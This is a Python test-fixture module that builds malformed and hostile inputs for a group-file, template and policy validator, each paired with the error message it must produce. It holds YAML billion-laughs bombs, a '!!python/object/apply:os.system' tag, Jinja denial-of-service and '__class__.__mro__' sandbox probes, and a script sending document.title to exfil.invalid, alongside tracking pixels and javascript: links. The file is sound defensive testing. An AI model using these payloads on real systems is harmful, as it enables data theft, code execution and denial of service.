"""The corpus of malformed and hostile inputs that tests/unit/test_hostile_inputs.py runs every command over.

Each case is the bytes of one file and a piece of the one sentence that must explain it (the file,
the line where there is one, the key). The files are made here rather than kept in a folder
because several are large, binary, or built from the example group file.
"""
from __future__ import annotations

from dataclasses import dataclass

from . import REPO

GOOD = (REPO / "group.yml").read_text(encoding="utf-8")
SHARING = ("    answers: {about: service_user, requester: colleague, information: case_details, consent: not_asked,"
           " circumstances: []}\n")
EXPECT = "    expect: {decision: share}\n"


@dataclass(frozen=True)
class Case:
    content: bytes
    said: tuple[str, ...]  # each must be in the error message


def edit(old: str, new: str) -> str:
    """The example group file with one piece replaced (the piece must be there: a typo here is a test bug)."""
    assert old in GOOD, old
    return GOOD.replace(old, new, 1)


def line_of(piece: str) -> int:
    """The line of the example group file where `piece` first appears, so the cases follow its edits."""
    assert piece in GOOD, piece
    return GOOD[:GOOD.index(piece)].count("\n") + 1


def case(text: str | bytes, *said: str) -> Case:
    return Case(text if isinstance(text, bytes) else text.encode("utf-8"), said)


def laughs(levels: int, width: int = 9) -> str:
    """The "billion laughs": each level an anchor holding `width` aliases of the one before."""
    lines = ['a0: &a0 "lol"']
    for level in range(1, levels):
        aliases = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{aliases}]")
    return "\n".join(lines) + "\nname: *a%d\n" % (levels - 1)


def nested(depth: int) -> str:
    return "name: Riverside\nversions: " + "[" * depth + "]" * depth + "\n"


def block_nested(depth: int) -> str:
    body = "".join("  " * level + f"k{level}:\n" for level in range(depth)) + "  " * depth + "k: v\n"
    return "name: Riverside\ncontact:\n" + "".join("  " + line + "\n" for line in body.splitlines())


LONG = "A" * 101
GROUP_CASES: dict[str, Case] = {
    "alias bomb": case(laughs(9), "line 1: anchors and aliases (& and *) are not allowed"),
    "small alias bomb 2.4 KB": case(laughs(12, 4), "anchors and aliases"),
    "billion laughs in one flow mapping": case(
        'x: {a: &a [lol, lol], b: &b [*a, *a, *a], c: &c [*b, *b, *b], d: [*c, *c, *c]}\n', "line 1", "anchors"),
    "one harmless anchor": case(edit("name: Riverside", "name: &n Riverside"), f"line {line_of('name: Riverside')}: anchors and aliases"),
    "merge key": case(edit("contact:\n", "base: &b {phone: 1}\ncontact:\n  <<: *b\n"), "anchors and aliases"),
    "deep flow nesting": case(nested(200), "line 2: the file nests more than 12 levels deep"),
    "very deep flow nesting": case(nested(50_000), "line 2: the file nests more than 12 levels deep"),
    "deep block nesting": case(block_nested(30), "nests more than 12 levels deep"),
    "a key given twice": case(edit("manager: manager", "manager: manager\nmanager: boss"),
                              f"line {line_of('manager: manager') + 1}: the key 'manager' is already given on line "
                              f"{line_of('manager: manager')}; give each key once"),
    "a second versions:": case(GOOD + '\nversions:\n  - version: "9.0"\n',
                               f"the key 'versions' is already given on line {line_of('versions:')}"),
    "a key given twice inside a version": case(edit("    approved: 2025-03-12", "    approved: 2025-03-12\n"
                                                                                 "    approved: 2025-03-13"),
                                               f"line {line_of('approved: 2025-03-12') + 1}: the key 'approved' is "
                                               f"already given on line {line_of('approved: 2025-03-12')}"),
    "Latin-1 bytes": case(edit("Riverside Community", "Zoë's Community").encode("latin-1"),
                          f"line {line_of('Riverside Community')}: the group file is not UTF-8 text"),
    "UTF-16 with a byte order mark": case(GOOD.encode("utf-16"), "line 1: the group file is not UTF-8 text"),
    "a NUL byte in the file": case(edit("Riverside Community", "Riverside\x00Community"),
                                   f"line {line_of('Riverside Community')}", "U+0000"),
    "a tab for indentation": case(edit("  phone:", "\tphone:"), f"line {line_of('  phone:')}: this line is indented with a tab"),
    "no space after a colon": case(edit("manager: manager", "manager:manager"),
                                   f"line {line_of('manager: manager')}: put a space after the colon, like this: `manager: value`."),
    "a colon inside a value": case(edit("summary: The policy as first adopted.", "summary: Note: first"),
                                   f"line {line_of('summary: The policy as first adopted.')}: the value has a colon in it"),
    # The quote runs on to the next one in the file: the sentence points at the line where it opened.
    "an unclosed quote": case(edit("manager: manager", 'manager: "manager'),
                              f"line {line_of('manager: manager')}: manager: too long"),
    "an unclosed bracket": case(edit("partner_agencies:\n", "partner_agencies: [\n"), "is not valid YAML"),
    "an impossible date": case(edit("approved: 2025-03-12", "approved: 2026-02-30"),
                               f"line {line_of('approved: 2025-03-12')}: versions[1].approved: there is no such day as 2026-02-30"),
    "an impossible quoted date": case(edit("approved: 2025-03-12", 'approved: "2025-02-29"'),
                                      "there is no such day as 2025-02-29"),
    "a thirteenth month": case(edit("review_due: 2026-03-12", "review_due: 2026-13-01"),
                               "versions[1].review_due: there is no such day as 2026-13-01"),
    "approved: 0": case(edit("approved: 2025-03-12", "approved: 0"),
                        f"line {line_of('approved: 2025-03-12')}: versions[1].approved: expected a date like 2026-03-31; "
                        "received '0'"),
    "a date and time": case(edit("approved: 2025-03-12", "approved: 2025-03-12 10:00:00"),
                            "versions[1].approved: expected a date like 2026-03-31"),
    "a file over the size limit": case(GOOD + "#" * 300_000 + "\n", "bytes; at most 262,144 are allowed"),
    "a list where a mapping belongs": case(edit("contact:\n", "contact: [one, two]\nx:\n"),
                                           "contact: expected a mapping"),
    "a mapping where a list belongs": case(edit("partner_agencies:\n", "partner_agencies: {a: b}\nx:\n"),
                                           "partner_agencies: expected a list"),
    "no versions at all": case(edit("versions:\n", "old_versions:\n"), "unknown key 'old_versions'"),
    "versions as text": case(GOOD.split("versions:")[0] + "versions: all of them\n", "versions: expected a list"),
    "an empty list of versions": case(GOOD.split("versions:")[0] + "versions: []\n",
                                      "versions: expected at least one entry"),
    "an unknown key": case(edit("manager: manager", "manger: manager"), f"line {line_of('manager: manager')}: unknown key 'manger'"),
    "an unknown key in a version": case(edit("    summary: The policy", "    sumary: The policy"),
                                        "unknown key 'versions[1].sumary'"),
    "NUL in short_name": case(edit("short_name: Riverside Food Bank", 'short_name: "Riverside\\0Food"'),
                              f"line {line_of('short_name:')}: short_name: it contains the invisible control character U+0000"),
    "an escape sequence in the name": case(edit("name: Riverside Community Food Bank",
                                                'name: "\\e[31mRed\\e[0m"'), f"line {line_of('name: Riverside')}: name", "U+001B"),
    "a right-to-left override": case(edit("manager: manager", 'manager: "boss \\u202Eevil"'),
                                     f"line {line_of('manager: manager')}: manager", "U+202E"),
    "a bidi isolate in a partner agency": case(edit("  - Mill Lane Debt Advice", '  - "Mill \\u2067Lane"'),
                                               "partner_agencies[2]", "U+2067"),
    "a lone surrogate": case(edit("manager: manager", 'manager: "boss \\uD800"'), f"line {line_of('manager: manager')}"),
    "a non-character": case(edit("manager: manager", 'manager: "boss \\uFFFF"'), f"line {line_of('manager: manager')}: manager", "U+FFFF"),
    "a 101-character name": case(edit("name: Riverside Community Food Bank", f"name: {LONG}"),
                                 f"line {line_of('name: Riverside')}: name: too long: at most 100 characters; received 101 characters"),
    "a 61-character short name": case(edit("short_name: Riverside Food Bank", f"short_name: {'B' * 61}"),
                                      "short_name: too long: at most 60 characters"),
    "a 301-character summary": case(edit("summary: The policy as first adopted.", f"summary: {'s' * 301}"),
                                    "versions[1].summary: too long: at most 300 characters"),
    "a 200,000-character name": case(edit("name: Riverside Community Food Bank", "name: " + "n" * 200_000),
                                     "received 200000 characters starting 'nnn"),
    "blank lines in a value": case(edit("summary: The policy as first adopted.",
                                        "summary: |\n      One.\n\n      Two."),
                                   f"line {line_of('summary: The policy as first adopted.')}: versions[1].summary: it contains a line break"),
    "a line break in the name": case(edit("name: Riverside Community Food Bank", 'name: "Riverside\\nFood"'),
                                     f"line {line_of('name: Riverside')}: name: it contains a line break"),
    "a javascript: address": case(edit("    title: Safeguarding Policy",
                                       "    title: Safeguarding Policy\n    url: javascript:alert(1)"),
                                  "policies.safeguarding.url: expected a web address starting with https://"),
    "a data: address": case(edit("  address: St Mark", "  website: data:text/html,<b>x</b>\n  address: St Mark"),
                            "contact.website: expected a web address"),
    "an address without a scheme": case(edit("  address: St Mark", "  website: www.example.org\n  address: St Mark"),
                                        "contact.website: expected a web address"),
    "keeps_case_files: sometimes": case(edit("keeps_case_files: true", "keeps_case_files: sometimes"),
                                        "keeps_case_files: expected true or false"),
    "keeps_case_files as a list": case(edit("keeps_case_files: true", "keeps_case_files: [true]"),
                                       "keeps_case_files: expected true or false"),
    "a version that is not a number": case(edit('version: "1.0"', "version: v1"),
                                           "versions[1].version: expected a version number like 1.0"),
    "a version of 5,000 digits": case(edit('version: "1.0"', f'version: "1.{"0" * 5000}"'),
                                      "versions[1].version: expected a version number like 1.0"),
    "a change note for a clause that does not exist": case(edit('"4": Consent', '"99": Consent'),
                                                           "there is no clause '99' to note a change to"),
    "changes as a list": case(edit('      "4": Consent must name each organisation we share with.\n'
                                   '      "7": Every', '      - Consent\n      - Every'),
                              "versions[2].changes: expected a mapping"),
    "versions out of order": case(edit("approved: 2026-03-10", "approved: 2024-03-10").replace(
        "review_due: 2027-03-10", "review_due: 2025-03-10"), "versions go in date order"),
    "31 partner agencies": case(edit("  - Riverside Housing Support Team\n",
                                     "".join(f"  - Agency {n}\n" for n in range(31))),
                                "partner_agencies: expected fewer entries"),
    "an empty file": case("", "the file is empty"),
    "only a comment": case("# nothing here yet\n", "the file is empty"),
    "a bare sentence": case("Riverside Community Food Bank\n", "line 1: expected `key: value` lines"),
    "two documents in one file": case(GOOD + "---\nname: Another\n", f"line {GOOD.count(chr(10)) + 1}: the file holds a second document"),
    "a list as a key": case("[a, b]: c\n" + GOOD, "line 1: a key must be plain text"),
    "a Python object tag": case('name: !!python/object/apply:os.system ["echo hi"]\n' + GOOD.split("\n", 5)[5],
                                "line 1"),
    "a binary tag": case(edit("name: Riverside Community Food Bank", "name: !!binary aGVsbG8="), f"line {line_of('name: Riverside')}"),
    "name: ~": case(edit("name: Riverside Community Food Bank", "name: ~"), f"line {line_of('name: Riverside')}: name: expected text"),
    "a name of spaces": case(edit("name: Riverside Community Food Bank", "name: '   '"),
                             "name: expected some text (it is empty)"),
}


def scenarios(body: str, head: str = "checker: sharing\nscenarios:\n") -> str:
    return head + body


ONE = scenarios("  - name: A colleague asks.\n" + SHARING + EXPECT)
SCENARIO_CASES: dict[str, Case] = {
    "alias bomb": case(laughs(9) + ONE, "line 1: anchors and aliases"),
    "answers shared by an anchor": case(scenarios(
        "  - name: One.\n    answers: &a {about: service_user}\n    expect: {decision: share}\n"
        "  - name: Two.\n    answers: *a\n    expect: {decision: share}\n"), "line 4: anchors and aliases"),
    "deep nesting": case(scenarios("  - name: Deep.\n    answers: " + "[" * 100 + "]" * 100 + "\n"),
                         "line 4: the file nests more than 12 levels deep"),
    "a duplicate answer": case(scenarios("  - name: Twice.\n    answers: {about: worker, about: service_user}\n"
                                         + EXPECT), "line 4: the key 'about' is already given on line 4"),
    "a second scenarios:": case(ONE + "scenarios: []\n", "line 6: the key 'scenarios' is already given on line 2"),
    "Latin-1 bytes": case(ONE.replace("A colleague", "Zoë").encode("latin-1"), "line 3: the scenario file is not UTF-8"),
    "UTF-16": case(ONE.encode("utf-16"), "the scenario file is not UTF-8"),
    "checker: as a list": case(ONE.replace("checker: sharing", "checker: [sharing, breach]"),
                               "(line 1): unknown checker ['sharing', 'breach']"),
    "checker: as a mapping": case(ONE.replace("checker: sharing", "checker: {id: sharing}"), "unknown checker"),
    "an unknown checker": case(ONE.replace("checker: sharing", "checker: sharring"), "unknown checker 'sharring'"),
    "no checker": case(ONE.replace("checker: sharing\n", ""), "unknown checker None"),
    "a version as a list": case(ONE.replace("scenarios:", "version: ['1.0']\nscenarios:", 1), "unknown version"),
    "scenarios as a mapping": case("checker: sharing\nscenarios: {a: b}\n", "key 'scenarios' must be a list"),
    "scenarios as text": case("checker: sharing\nscenarios: all\n", "key 'scenarios' must be a list"),
    "a scenario that is text": case(scenarios("  - just words\n"), "scenario 1: expected a mapping"),
    "a name that is a list": case(scenarios("  - name: [a, b]\n" + SHARING + EXPECT),
                                  "scenario 1 (line 3): key 'name' must be a sentence"),
    "answers as a list": case(scenarios("  - name: A list.\n    answers: [about, worker]\n" + EXPECT),
                              "(line 3): key 'answers' must be a mapping"),
    "an unknown question": case(scenarios("  - name: Odd.\n    answers: {colour: blue}\n" + EXPECT),
                                "Unknown question 'colour'"),
    "an empty question name": case(scenarios("  - name: Odd.\n    answers: {~: blue}\n" + EXPECT), "(line 3)"),
    "an option that is a list": case(scenarios(
        "  - name: A list option.\n" + SHARING.replace("about: service_user", "about: [service_user]") + EXPECT),
        "(line 3)", "'about'"),
    "a mapping inside a multi answer": case(scenarios(
        "  - name: Odd circumstances.\n" + SHARING.replace("circumstances: []", "circumstances: [{a: b}]")
        + EXPECT), "(line 3)", "'circumstances'"),
    "a multi answer as text": case(scenarios(
        "  - name: Text circumstances.\n" + SHARING.replace("circumstances: []", "circumstances: urgent_medical")
        + EXPECT), "(line 3)", "'circumstances'"),
    "a missing required answer": case(scenarios("  - name: Short.\n    answers: {about: worker}\n" + EXPECT),
                                      "Missing answer to 'requester'"),
    "expect without a decision": case(scenarios("  - name: No decision.\n" + SHARING + "    expect: {cites: ['2']}\n"),
                                      "key 'expect' needs a 'decision'"),
    "a decision that is a list": case(scenarios("  - name: Listed.\n" + SHARING + "    expect: {decision: [share]}\n"),
                                      "unknown decision ['share']"),
    "cites as a mapping": case(scenarios("  - name: Cites.\n" + SHARING + "    expect: {decision: share, cites: {a: 1}}\n"),
                               "key 'cites' must be a list"),
    "an unknown clause": case(scenarios("  - name: Clause.\n" + SHARING + "    expect: {decision: share, cites: ['99']}\n"),
                              "unknown clause '99'"),
    "not_actions as text": case(scenarios("  - name: Not.\n" + SHARING + "    expect: {decision: share, not_actions: x}\n"),
                                "key 'not_actions' must be a list"),
    "a title that is a list": case(scenarios("  - name: Title.\n" + SHARING + "    expect: {decision: share, title: [a]}\n"),
                                   "key 'title' must be text"),
    "an unknown urgency": case(scenarios("  - name: Urgent.\n" + SHARING + "    expect: {decision: share, urgency: asap}\n"),
                               "unknown urgency 'asap'. Expected one of: now, today, soon"),
    "a name used twice": case(ONE + ONE.split("scenarios:\n")[1], "the name is used twice"),
    "a tab": case(ONE.replace("    answers", "\tanswers"), "tab"),
    "an empty file": case("", "expected a mapping with keys checker, version, scenarios"),
    "a file over the size limit": case(b"#" * (33 * 1024 * 1024), "bytes; at most 33,554,432 are allowed"),
    "a NUL byte": case(ONE.replace("A colleague", "A\x00colleague"), "line 3"),
}


# A group's own wording for a document (my-templates/documents/consent-form.html) that never ends, or
# tries to build something huge in one step, or to reach outside the sandbox.
TEMPLATE_CASES: dict[str, Case] = {
    "a macro that calls itself": case("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
                                      "the template calls itself without end"),
    "a template that includes itself": case('{% include "consent-form.html" %}', "calls itself without end"),
    "a template that extends itself": case('{% extends "consent-form.html" %}', "calls itself without end"),
    "a range of a billion": case("{% for i in range(10**9) %}x{% endfor %}", "the number 1000000000"),
    "a loop inside a loop": case("<document><h1>x</h1>\n{% for i in range(9999) %}\n"
                                 "{% for j in range(9999) %}{% endfor %}{% endfor %}</document>",
                                 "consent-form.html, line 3: the template stopped: it did not finish within 5 seconds"),
    "a loop over padded text": case('{% for a in "x"|center(99999) %}{% for b in "y"|center(99999) %}'
                                    "{% endfor %}{% endfor %}", "did not finish within 5 seconds"),
    "text repeated ten billion times": case('{{ "x" * 10**10 }}', "repeats something 10,000,000,000 times"),
    "a number squared sixty times": case("{% set ns = namespace(x=2) %}{% for i in range(60) %}"
                                         "{% set ns.x = ns.x * ns.x %}{% endfor %}", "numbers too large to write"),
    "a power tower": case("{{ 9**99999 }}", "a number too large to write"),
    "a huge padding filter": case('{{ "x"|center(100000000000) }}', "the number 100000000000"),
    "a huge % width": case('{{ "%1000000000d" % 1 }}', "formats with a width"),
    "a huge format width": case('{{ "{:>1000000000}".format(1) }}', "formats with a width"),
    "a huge lipsum": case("{{ lipsum(n=1000000000) }}", "the number 1000000000"),
    "a list that grows": case("{% for a in agencies %}{{ agencies.append(a) }}{% endfor %}",
                              "line 1: template error: access to attribute 'append' of 'list' object is unsafe."),
    "reaching into Python": case("{{ group.__class__.__mro__ }}", "access to attribute '__class__'"),
    "not UTF-8": case("<document><h1>Zoë</h1></document>".encode("latin-1"), "the template is not UTF-8 text"),
}


POLICY = (REPO / "policy" / "1.1.md").read_text(encoding="utf-8")


def policy_with(extra: str) -> str:
    """The policy text with `extra` at the end of its first clause's first paragraph."""
    head, sep, rest = POLICY.partition("\n## ")
    clause, blank, after = rest.partition("\n\n")
    body, blank2, tail = after.partition("\n\n")
    return head + sep + clause + blank + body + " " + extra + blank2 + tail


def policy_line(extra: str) -> str:
    """ "line N" where `extra` lands in policy_with(extra)."""
    made = policy_with(extra)
    return f"line {made[:made.index(extra)].count(chr(10)) + 1}"


RAW_HTML = "it has raw HTML"
SCRIPT = '<script>location = "https://exfil.invalid/?" + document.title</script>'
REFRESH = '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">'
PIXEL = '<img src="https://exfil.invalid/pixel.gif">'
# What a group's policy text may not hold (see handbook/policy/markup.py), each with its one sentence.
MARKUP_CASES: dict[str, Case] = {
    "a script": case(policy_with(SCRIPT), policy_line(SCRIPT), RAW_HTML),
    "a refresh to another site": case(policy_with(REFRESH), policy_line(REFRESH), RAW_HTML),
    "a picture that carries data away": case(policy_with(PIXEL), policy_line(PIXEL), RAW_HTML),
    "a closing tag": case(policy_with("</div>"), policy_line("</div>"), RAW_HTML),
    "an HTML comment": case(policy_with("<!-- hidden -->"), policy_line("<!-- hidden -->"), RAW_HTML),
    "an event handler as an attribute list": case(policy_with('[x](#top){ onclick="alert(1)" }'),
                                                  policy_line("[x](#top)"), "a { or } outside {{ ... }}"),
    "a javascript: link": case(policy_with("[help](javascript:alert(1))"), policy_line("[help]"),
                               "it links to a javascript: address"),
    "a data: link": case(policy_with("[help](data:text/html,x)"), policy_line("[help]"), "a data: address"),
    "a script through | safe": case(policy_with('{{ "<script>alert(1)</script>" | safe }}'),
                                    "clause 1", RAW_HTML, "{{ ... }} part"),
    **{f"a picture from {where}": case(policy_with(f"![Our logo]({address})"), policy_line("![Our logo]"),
                                      "it shows a picture from another place")
       for where, address in (("another site", "https://example.org/logo.png"), ("the disk", "file:///etc/hostname"),
                              ("a host named without a scheme", "//example.org/a.png"),
                              ("a data: address", "data:image/png;base64,iVBORw0KGgo="))},
    "a script written as escapes through | safe": case(policy_with('{{ "\\x3cscript>x" | safe }}'), RAW_HTML),
}


# A group's own policy text (policy/1.1.md beside its group.yml), which is a template too.
POLICY_CASES: dict[str, Case] = {
    **MARKUP_CASES,
    "a loop inside a loop": case(policy_with("{% for i in range(9999) %}{% for j in range(9999) %}"
                                             "{% endfor %}{% endfor %}"), "did not finish within 5 seconds"),
    "a macro that calls itself": case(policy_with("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
                                      "calls itself without end"),
    "text repeated ten billion times": case(policy_with('{{ "x" * 10**10 }}'), "repeats something"),
    "Latin-1 bytes": case(policy_with("Zoë").encode("latin-1"), "the policy text is not UTF-8 text"),
    "a policy of two megabytes": case(POLICY + "x" * 2_000_000, "at most 1,048,576 are allowed"),
}


# Files of a group's folder that are not what they seem (git keeps symlinks; a pull request can add
# one): each place a build reads, and what is put there instead of an ordinary file of its own.
SECRET = "hunter2-this-is-the-deploy-token"
PLACES = {  # where, as the message names it
    "group.yml": "group.yml",
    "policy/1.1.md": "policy/1.1.md",
    "my-sections/police.yml": "my-sections/police.yml",
    "my-quiz.yml": "my-quiz.yml",
    "my-templates/documents/consent-form.html": "my-templates/documents/consent-form.html",
}
KINDS = {  # what is there instead, and the words that explain it
    "a link to a secret outside": ("secret", "is a link to a place outside"),
    "a link to /dev/zero": ("/dev/zero", "is a link to a place outside"),
    "a pipe": ("fifo", "is not an ordinary file"),
    "a broken link": ("nowhere", "is a link to a file that does not exist"),
}
FILE_CASES = {f"{where}: {kind}": (where, *KINDS[kind]) for where in PLACES for kind in KINDS}


QUIZ_SITUATION = """\
scenarios:
  - name: The police ask.
    checker: sharing
    answers: {about: service_user, requester: police, information: contact_details, circumstances: []}
    choices:
      - {text: "Tell {manager}.", decision: share}
      - {text: Ask the guest., decision: get_consent}
      - {text: Pass it on., decision: pass_to_person_in_authority}
"""
PLAIN_WORD = "a placeholder may only be a plain word in braces"
# A trainers' my-quiz.yml whose words would make a huge text or reach into Python when filled in.
QUIZ_CASES: dict[str, Case] = {
    "a format width of three million": case(QUIZ_SITUATION.replace("{manager}", "{manager:>3000000}"),
                                            "line 2", "choice A", PLAIN_WORD),
    "a width inside a width": case(QUIZ_SITUATION.replace("{manager}", "{manager:{manager}>9}"), "line 2", PLAIN_WORD),
    "a conversion": case(QUIZ_SITUATION.replace("{manager}", "{manager!a}"), "line 2", PLAIN_WORD),
    "an attribute": case(QUIZ_SITUATION.replace("{manager}", "{manager.__class__.__mro__}"), "line 2", PLAIN_WORD),
    "a width in the situation": case(QUIZ_SITUATION.replace("The police ask.", "The police ask {name:^999999}."),
                                     "line 2", PLAIN_WORD),
    "a choice of 100,000 characters": case(QUIZ_SITUATION.replace("Ask the guest.", "x" * 100_000),
                                           "choice B: the text is 100,000 characters; at most 400"),
}
